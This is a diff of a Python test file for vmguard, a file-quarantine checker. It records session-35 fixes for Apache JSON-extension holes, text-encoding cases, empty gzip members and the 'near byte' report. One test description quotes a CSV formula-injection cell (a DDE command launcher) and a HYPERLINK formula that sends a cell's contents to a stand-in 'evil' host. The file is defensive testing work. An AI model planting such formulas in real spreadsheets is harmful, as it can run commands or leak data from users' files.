@@ -15,6 +15,10 @@ rejections: Python's gzip appending a member per session when a session logs not
 (`<object object at 0x...>`, the text rule's `<object`), and two the docs choose (tqdm's
 nested bars' ESC [A in a job's .err; a log holding nginx's 502 page). A report line: a
 refusal's "near byte N" names the start of the 1 MiB read, not the character.
+Fixed in session 35 (icfix): the JSON names (served.served_by; JSON_NAMED), the quiet
+sessions' empty members, the object() repr, "near byte"; the text encoding choice is
+listed in docs/quarantine.md, so its two cases are controls; the DDE cell stays a strict
+xfail by design (Threat model: a scanner's job).
 
 Controls: json/orjson/ujson/simplejson/json.tool/jq (64-bit ids too), node's
 JSON.stringify, papermill notebooks (pandas HTML, a plotly <script> in strings), pandas with tiny and huge floats (records, table, lines,
@@ -92,53 +96,29 @@ def run(tmp_path_factory):
     return {**vetted, "seconds": time.monotonic() - start}
 
 
-_APACHE = (
-    "published: Apache types a name by its rightmost extension that has a type (vmguard's own "
-    "rule for pages: page.html.en and feed.xml.dat are refused), so it serves this as {type}; a "
-    "client parses it as JSON and drops the text's free white space (json.loads returns the "
-    "compact document's value): the JSON-name pin checks the last extension only"
-)
+# Fixed (session 35, icfix): served.served_by is the one answer to "which extension does a
+# server type this name by", for pages, JSON names and gunzip's names; these are refused.
 _GEO, _JSON = "application/geo+json", "application/json"
+JSON_NAMED: dict[str, str] = {  # name -> the JSON type Apache sends it as (gunzip's name for a .gz)
+    "apache-multi.json.dat": _JSON,
+    "apache-multi.geojson.out": _GEO,
+    "apache-lang.json.en": _JSON,
+    "apache-charset.json.utf8": _JSON,
+    "apache-multi.webmanifest.1": "application/manifest+json",
+    "apache-upper.JSON.dat": _JSON,
+    "apache-dots.json..dat": _JSON,
+    "gz-loose.geojson.en.gz": _GEO,
+    "gz-loose.json.dat.gz": _JSON,
+}
 HOLES: dict[str, str] = {
-    "apache-multi.json.dat": _APACHE.format(type=f"{_JSON} (.dat has none)"),
-    "apache-multi.geojson.out": _APACHE.format(type=f"{_GEO} (.out has none)"),
-    "apache-lang.json.en": _APACHE.format(type=f"{_JSON} (.en is a language: AddLanguage)"),
-    "apache-charset.json.utf8": _APACHE.format(type=f"{_JSON} (.utf8 a charset: AddCharset)"),
-    "apache-multi.webmanifest.1": _APACHE.format(type="application/manifest+json (.1 has none)"),
-    "apache-upper.JSON.dat": _APACHE.format(type=f"{_JSON} (mod_mime's extensions are case-blind)"),
-    "apache-dots.json..dat": _APACHE.format(type=f"{_JSON} (an empty extension is skipped)"),
-    "gz-loose.geojson.en.gz": _APACHE.format(
-        type=f"{_GEO} once unpacked: gunzip names the inner file x.geojson.en"
-    ),
-    "gz-loose.json.dat.gz": _APACHE.format(
-        type=f"{_JSON} once unpacked: gunzip names the inner file x.json.dat (vmguard judges that name, as "
-        "it refuses the same text in x.json.gz)"
-    ),
     "csv-dde-formula.csv": "published: a .csv whose cell is =cmd|' /C calc'!A0; Excel evaluates a cell "
     "starting = as a formula when it opens a .csv (this DDE launch asks first and is off by default in "
     'Microsoft 365 since 2023; =HYPERLINK("http://evil/?"&A1) leaks a cell on one click): text a client '
-    "treats as active content; docs/quarantine.md calls text content data, so this may be by design",
+    "treats as active content; by design: docs/quarantine.md's Threat model says a cell's formula is data to "
+    "vet, the scanners' job (a YARA rule on .csv), and its 'JSON and text: what exactness leaves' that a "
+    "formula is a valid cell vmguard does not judge",
 }
-_ENCODING = (
-    "published: the same text as ctl-log-utf16.log (UTF-16LE), here {how}: Python's utf-16/utf-8 readers "
-    "return the one str, so the choice among UTF-8, UTF-16LE and UTF-16BE is log2 3 = 1.6 bits a file no "
-    "reader returns; 'JSON and text: what exactness leaves' lists line ends and white space, not this"
-)
-HOLES |= {
-    "text-utf16be-of-ctl.log": _ENCODING.format(how="UTF-16BE behind FE FF"),
-    "text-utf8-of-ctl.log": _ENCODING.format(how="UTF-8"),
-}
-_EMPTY_MEMBER = (
-    "refused (invalid-format: an empty member beside others): Python's gzip.open(path, 'ab') once a "
-    "session, {which}, writes a member that inflates to nothing; the docs cite gzip.open(path, 'at') per "
-    "session as ordinary and already leave each member's MTIME free (32 bits a member, at most 10,000)"
-)
 FALSE_REJECTIONS: dict[str, str] = {
-    "ctl-append-quiet-session.log.gz": _EMPTY_MEMBER.format(which="the second logging nothing"),
-    "ctl-append-quiet-first.log.gz": _EMPTY_MEMBER.format(which="the first logging nothing"),
-    "ctl-log-object-repr.log": "refused (invalid-format: text: markup '<object'): logging.warning(f'default "
-    "{sentinel!r} replaced') writes Python's repr of object(), '<object object at 0x7f...>', in a .log "
-    "served as text/plain; the rule already passes <metadata> and <format>",
     "ctl-train-nested-4243.err": "refused (invalid-format: text: ESC): tqdm's nested bars (an inner loop with "
     "leave=False) in a job's stderr file, as every training job writes it: tqdm moves up with ESC [A whether "
     "or not the file is a terminal; by design as docs/quarantine.md words it (no ESC in text), listed as the "
@@ -186,10 +166,10 @@ def test_a_name_whose_last_extension_apache_types_is_judged_by_it(run, name):
 
 
 def test_the_json_name_holes_are_json_to_a_client():
-    """What makes them holes: a client's JSON parser returns what the compact document
-    holds, so the published spaces are bytes no reader returns."""
+    """Why they are refused (JSON_NAMED, holes before session 35): a client's JSON parser
+    returns what the compact document holds, so the spaces would be bytes no reader returns."""
     compact = json.loads(json.dumps(json.loads(made.LOOSE_JSON), separators=(",", ":")))
-    for name in (n for n in HOLES if n.startswith(("apache-", "gz-"))):
+    for name in JSON_NAMED:
         data = FILES[name]
         data = gzip.decompress(data) if name.endswith(".gz") else data
         assert json.loads(data) == compact, name
@@ -198,10 +178,10 @@ def test_the_json_name_holes_are_json_to_a_client():
 
 @pytest.mark.skipif(not apache.available(), reason="Debian's apache2 is not installed")
 def test_apache_serves_the_json_name_holes_as_json():
-    """The claim HOLES rest on, asked of a real Apache 2.4 with Debian's mime.conf: each
-    published name (gunzip's inner name for a .gz) is sent as a JSON type, and the names
+    """The claim JSON_NAMED rests on, asked of a real Apache 2.4 with Debian's mime.conf: each
+    name (gunzip's inner name for a .gz) is sent as a JSON type, and the names
     rightly published are not."""
-    holes = {n.removesuffix(".gz"): n for n in HOLES if n.startswith(("apache-", "gz-"))}
+    holes = {n.removesuffix(".gz"): n for n in JSON_NAMED}
     with apache.serving([*holes, *made.LAST_TYPED]) as sent:
         for name in holes:
             assert sent[name].split(";")[0].endswith("json"), (name, sent[name])
@@ -210,30 +190,25 @@ def test_apache_serves_the_json_name_holes_as_json():
 
 
 def test_the_encoding_cases_are_one_text():
-    """What makes them a hole: a reader returns one str for all three files."""
+    """Why they were holes (before session 35, when docs/quarantine.md listed the encoding
+    as a choice no reader returns, 2 bits a file): a reader returns one str for all three."""
     text = FILES["ctl-log-utf16.log"].decode("utf-16")
-    assert FILES["text-utf16be-of-ctl.log"].decode("utf-16") == text
-    assert FILES["text-utf8-of-ctl.log"].decode("utf-8") == text
+    assert FILES["ctl-log-utf16be-of-utf16.log"].decode("utf-16") == text
+    assert FILES["ctl-log-utf8-of-utf16.log"].decode("utf-8") == text
     assert FILES["ctl-log-utf16.log"].startswith(b"\xff\xfe")
 
 
 def test_the_quiet_session_gzip_is_what_python_reads(run):
-    """The refused append files are sound gzip: Python's gzip returns the logged lines."""
+    """The append files (refused before session 35 as 'an empty member beside others') are
+    sound gzip holding an empty member: Python's gzip returns the logged lines."""
     line = b"2024-12-05 10:00:00,001 INFO run 42 event 17 done\n"
     assert gzip.decompress(FILES["ctl-append-quiet-session.log.gz"]) == line * 2
     assert gzip.decompress(FILES["ctl-append-quiet-first.log.gz"]) == line
-    detail = run["entries"]["ctl-append-quiet-first.log.gz"]["detail"]
-    assert "empty member" in detail, detail
+    for name in ("ctl-append-quiet-session.log.gz", "ctl-append-quiet-first.log.gz"):
+        assert b"\x03\x00" + bytes(8) in FILES[name], name  # zlib's deflate of nothing, CRC 0, size 0
+        assert run["entries"][name]["verdict"] == "accepted", run["entries"][name]
 
 
-_NEAR = (
-    "the detail says 'near byte 0' for a character at byte 299,997 of a 300 KB log: it names the start of "
-    "the 1 MiB read the character fell in (2097152 for one at 3,000,000), up to 1 MiB off, so a user "
-    "looking there finds nothing"
-)
-
-
-@pytest.mark.xfail(strict=True, raises=AssertionError, reason=_NEAR)
 @pytest.mark.parametrize("name", sorted(made.OFFSET_CASES))
 def test_the_refusal_names_where_the_character_is(run, name):
     """A report line must not lie: 'near byte N' within a line's length of the byte."""
